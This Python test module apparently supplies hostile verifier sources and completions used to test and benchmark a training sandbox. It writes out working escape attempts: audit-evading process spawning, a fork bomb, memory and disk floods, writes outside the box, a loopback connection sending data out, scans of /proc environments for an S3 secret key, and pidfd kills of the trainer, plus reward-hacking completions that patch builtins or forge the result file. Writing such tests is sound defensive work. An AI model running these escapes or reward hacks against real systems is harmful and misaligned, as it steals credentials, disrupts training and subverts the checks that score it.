"""Hostile verifiers and completions for the sandbox tests and benchmarks/bench_sandbox_attacks.py.

Each attack is one escape tried from inside the sandbox (issue 14 §1 and the classic ones); `run`
scores it in this process (the trainer) while measuring the wall time and the peak growth of this
process's resident memory, and `run_in_trainer` runs it from a separate trainer process when the
attack aims at the trainer itself (its environment, its life).
"""

from __future__ import annotations

import json
import os
import secrets
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from forge_trainer.config import VerifierKind
from forge_trainer.train.sandbox import SandboxLimits
from forge_trainer.train.verifiers import Outcome, RewardModel, RewardStats

LIMITS = SandboxLimits(timeout_seconds=1.5, memory_mb=256, file_size_mb=8, disk_mb=16, max_processes=16)
"""Short limits, so each attack takes about a second and a half."""

SPAWN = '''
import os, _posixsubprocess

def spawn(argv, keep_fds=False, wait=True):
    """Start a program the way subprocess does, below every audit event."""
    r, w = os.pipe()
    pid = _posixsubprocess.fork_exec(
        [a.encode() for a in argv], [argv[0].encode()], not keep_fds, (w,), None, None,
        -1, -1, -1, -1, -1, -1, r, w, False, False, -1, None, None, None, -1, None, False)
    os.close(w)
    os.close(r)
    return os.waitpid(pid, 0)[1] if wait else pid
'''
"""Source of `spawn(argv)`: `_posixsubprocess.fork_exec`, which raises no audit event (3.11 arguments)."""


@dataclass(frozen=True)
class Measured:
    """One attack's outcome and what it cost the trainer."""

    outcome: Outcome
    stats: RewardStats
    seconds: float
    rss_growth_mb: float


def rss_mb() -> float:
    """This process's resident memory in MB."""
    with open("/proc/self/statm") as f:
        return int(f.read().split()[1]) * os.sysconf("SC_PAGE_SIZE") / 1e6


def measure(fn: Callable[[], tuple[list[Outcome], RewardStats]]) -> Measured:
    """Run `fn`, sampling this process's RSS every 5 ms; wall time and peak RSS growth."""
    base = rss_mb()
    peak = [base]
    done = threading.Event()

    def sample() -> None:
        while not done.is_set():
            peak[0] = max(peak[0], rss_mb())
            time.sleep(0.005)

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    start = time.monotonic()
    try:
        outcomes, stats = fn()
    finally:
        seconds = time.monotonic() - start
        done.set()
        sampler.join()
    return Measured(outcomes[0], stats, seconds, max(0.0, peak[0] - base))


def run(source: str, task: dict[str, Any] | None = None, limits: SandboxLimits = LIMITS) -> Measured:
    """Score a custom verifier `source` once, measured."""
    model = RewardModel(VerifierKind.CUSTOM, limits, custom_source=source)
    return measure(lambda: model.score(["q"], ["a"], [task or {}]))


def run_tests(code: str, tests: list[str], limits: SandboxLimits = LIMITS) -> Measured:
    """Score generated `code` against `tests` (python_tests) once, measured."""
    model = RewardModel(VerifierKind.PYTHON_TESTS, limits)
    return measure(lambda: model.score(["q"], [code], [{"tests": tests}]))


_TRAINER = '''
import json, sys
from forge_trainer.train.sandbox import SandboxLimits, run_custom_verifier
source, task, limits = json.loads(sys.stdin.read())
r = run_custom_verifier(source, "q", "a", task, SandboxLimits(**limits))
print(json.dumps({"score": r.score, "error": r.error, "detail": r.detail}))
'''


@dataclass(frozen=True)
class TrainerRun:
    """A custom verifier scored by a separate trainer process."""

    returncode: int
    result: dict[str, Any] | None
    seconds: float


def run_in_trainer(source: str, task: dict[str, Any], env: dict[str, str], limits: SandboxLimits = LIMITS) -> TrainerRun:
    """Score `source` in a fresh trainer process started with `env` added (its own store keys)."""
    start = time.monotonic()
    proc = subprocess.run([sys.executable, "-c", _TRAINER], input=json.dumps([source, task, limits.__dict__]),
                          capture_output=True, text=True, env={**os.environ, **env}, timeout=60, check=False)
    lines = proc.stdout.strip().splitlines()
    return TrainerRun(proc.returncode, json.loads(lines[-1]) if lines else None, time.monotonic() - start)


def processes_with(token: str) -> list[int]:
    """Host pids whose command line contains `token`."""
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                cmdline = Path(f"/proc/{name}/cmdline").read_bytes()
            except OSError:
                continue
            if token.encode() in cmdline:
                found.append(int(name))
    return found


def token() -> str:
    """A unique marker for one attack's processes."""
    return f"forge-attack-{secrets.token_hex(4)}"


# --- the attacks: custom verifier sources --------------------------------------------------------

def shell_escape(target: Path, port: int) -> str:
    """fork_exec /bin/sh (no audit event): write outside the box and connect to the host; 1.0 if either worked."""
    connect = f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(b'leak')"
    return SPAWN + f'''
import sys
def verify(p, c, t):
    wrote = spawn(["/bin/sh", "-c", "echo pwned > {target}"]) == 0
    sent = spawn([sys.executable, "-c", "{connect}"]) == 0
    return 1.0 if wrote or sent else 0.0
'''


def setsid_sleeper(marker: str) -> str:
    """A `setsid sleep` holding every inherited descriptor, then a busy loop: must die with the run."""
    return SPAWN + f'''
def verify(p, c, t):
    for fd in range(64):  # whatever pipe this process holds, the grandchild holds it too
        try:
            os.set_inheritable(fd, True)
        except OSError:
            pass
    spawn(["/usr/bin/setsid", "/bin/sh", "-c", "sleep 60; echo done", "{marker}"], keep_fds=True, wait=False)
    while True:
        pass
'''


def fork_bomb(marker: str) -> str:
    """Start sleeping shells until process creation fails; raise with the count, so it is the detail."""
    return SPAWN + f'''
def verify(p, c, t):
    started = 0
    try:
        for _ in range(200):
            spawn(["/bin/sh", "-c", "sleep 60", "{marker}"], wait=False)
            started += 1
    except OSError:
        pass
    raise RuntimeError(f"started {{started}} processes")
'''


MEMORY_BOMB = "def verify(p, c, t):\n    xs = []\n    while True:\n        xs.append(bytearray(10**7))"

DISK_FILL = '''
def verify(p, c, t):
    written = 0
    try:
        for i in range(100000):
            with open(f"fill{i}", "wb") as f:
                for _ in range(8):
                    f.write(b"x" * 2**20)
                    written += 1
    except OSError as exc:
        raise RuntimeError(f"wrote {written} MB before {type(exc).__name__}") from None
    return 1.0
'''

STDOUT_FLOOD = '''
import os
def verify(p, c, t):
    chunk = b"x" * 65536
    fds = [fd for fd in range(64) if fd not in (0,)]
    while True:
        for fd in fds:
            try:
                os.write(fd, chunk)
            except OSError:
                pass
'''
"""Write as fast as possible to stdout, stderr and every other descriptor it inherited."""


def network_connect(port: int) -> str:
    """A plain socket to the host's loopback."""
    return f'''
import socket
def verify(p, c, t):
    socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(b"leak")
    return 1.0
'''


def dir_fd_writes(directory: Path) -> str:
    """Create, remove and rename through a descriptor of a directory outside the box."""
    return f'''
import os
def verify(p, c, t):
    d = os.open({str(directory)!r}, os.O_RDONLY)
    fd = os.open("pwned", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=d)
    os.write(fd, b"x")
    os.remove("victim", dir_fd=d)
    os.rename("keep", "moved", src_dir_fd=d, dst_dir_fd=d)
    return 1.0
'''


ENVIRON_READ = '''
import os
def verify(p, c, t):
    places = ["/proc/1/environ", f"/proc/{os.getppid()}/environ", f"/proc/{t['trainer_pid']}/environ"]
    places += [f"/proc/{n}/environ" for n in os.listdir("/proc") if n.isdigit()]
    for place in places:
        try:
            with open(place, "rb") as f:
                if b"FORGE_S3_SECRET_KEY=" in f.read():
                    return 1.0
        except OSError:
            pass
    return 0.0
'''
"""1.0 when any visible process environment holds the store key (run it with `run_in_trainer`)."""

PIDFD_KILL = '''
import os, select, signal
def verify(p, c, t):
    for pid in {os.getppid(), t["trainer_pid"]}:
        try:
            fd = os.pidfd_open(pid)
            signal.pidfd_send_signal(fd, signal.SIGKILL)
            signal.pidfd_send_signal(fd, signal.SIGINT)
        except OSError:
            continue
        if select.select([fd], [], [], 1.0)[0]:  # readable once the target has exited
            return 1.0
    return 0.0
'''
"""SIGKILL (and SIGINT) at the parent and the trainer through a pidfd (no audit event); 1.0 when one died."""

# --- the attacks: generated code in python_tests mode (each fails its test honestly) --------------

REWARD_HACKS = {
    "exec replaced": "import builtins\nbuiltins.exec = lambda *a, **k: None\ndef f():\n    return 2",
    "json replaced": ("import json\njson.dumps = lambda *a, **k: '{\"score\": 1.0}'\n"
                      "json.loads = lambda *a, **k: {'score': 1.0}\ndef f():\n    return 2"),
    "early os._exit(0)": "import os\nos._exit(0)\ndef f():\n    return 2",
    "sys.exit(0)": "import sys\nsys.exit(0)",
    "fake result file": ("import os\nfor name in os.listdir('.'):\n    pass\n"
                         "open('.forge-result', 'w').write('0' * 32 + '\\nok\\n1.0\\n')\nos._exit(0)"),
    "frame hunting": ("import sys\nf = sys._getframe(1)\nwhile f is not None and 'nonce' not in f.f_locals:\n"
                      "    f = f.f_back\nopen('.forge-result', 'w').write(f.f_locals['nonce'] + '\\nok\\n1.0\\n')\n"
                      "import os\nos._exit(0)"),
    "traceback frames": ("try:\n    1 / 0\nexcept ZeroDivisionError as e:\n    f = e.__traceback__.tb_frame\n"
                         "def f():\n    return 2"),
    "builtins patched": "import builtins\nbuiltins.int = lambda *a: 1\ndef f():\n    return '2'",
}
"""Completions that try to pass `assert int(f()) == 1` without a correct f."""


class Listener:
    """A TCP server on the host's loopback that records whatever reaches it."""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        self._server = socket.socket()
        self._server.bind(("127.0.0.1", 0))
        self._server.listen()
        self._server.settimeout(0.1)
        self.port: int = self._server.getsockname()[1]
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self._server.accept()
            except TimeoutError:
                continue
            with conn:
                self.received.append(conn.recv(100))

    def close(self) -> list[bytes]:
        """Stop serving (after a moment for late connections); what was received."""
        time.sleep(0.3)
        self._stop.set()
        self._thread.join()
        self._server.close()
        return self.received


_UNPRIVILEGED_TRAINER = '''
import json, sys
sys.path.insert(0, sys.argv[1])  # the sandbox modules use the standard library only
from forge_trainer.train.sandbox import SandboxLimits, isolation, run_custom_verifier
attacks, task, limits = json.loads(sys.stdin.read())
results = {name: run_custom_verifier(source, "q", "a", task, SandboxLimits(**limits)).__dict__
           for name, source in attacks.items()}
print(json.dumps({"layers": isolation().layers, "results": results}))
'''


def run_unprivileged(python: str, attacks: dict[str, str], env: dict[str, str], uid: int = 65534,
                     limits: SandboxLimits = LIMITS) -> dict[str, Any] | None:
    """Score `attacks` from a trainer running as `uid` (the pod's situation), with `python` (a standard
    library interpreter that uid can run); None when that interpreter cannot run there."""
    trainer_image = str(Path(__file__).resolve().parents[2] / "trainer_image")
    try:
        proc = subprocess.run([python, "-I", "-c", _UNPRIVILEGED_TRAINER, trainer_image],
                              input=json.dumps([attacks, {"trainer_pid": os.getpid()}, limits.__dict__]),
                              capture_output=True, text=True, env={"PATH": os.defpath, **env}, user=uid, group=uid,
                              extra_groups=[], timeout=120, check=False, cwd="/")
    except (OSError, subprocess.SubprocessError):
        return None
    lines = proc.stdout.strip().splitlines()
    return {"returncode": proc.returncode, **json.loads(lines[-1])} if lines else (
        {"returncode": proc.returncode} if proc.returncode < 0 else None)
